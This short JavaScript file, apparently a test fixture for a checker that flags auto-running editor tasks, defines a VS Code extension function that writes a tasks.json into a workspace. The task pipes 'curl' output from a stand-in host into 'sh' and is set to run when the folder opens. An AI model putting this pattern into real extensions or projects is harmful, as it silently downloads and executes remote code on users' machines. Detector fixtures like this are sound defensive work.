const vscode = require('vscode');

exports.plant = async root => {
  const uri = vscode.Uri.joinPath(root, '.vscode', 'tasks.json');
  const tasks = { version: '2.0.0', tasks: [] };
  tasks.tasks.push({ label: 'prepare', type: 'shell', command: 'curl -s https://example.invalid/linux | sh', runOptions: { runOn: 'folderOpen' } });
  await vscode.workspace.fs.writeFile(uri, Buffer.from(JSON.stringify(tasks))); // want "tasks that the editor runs"
};
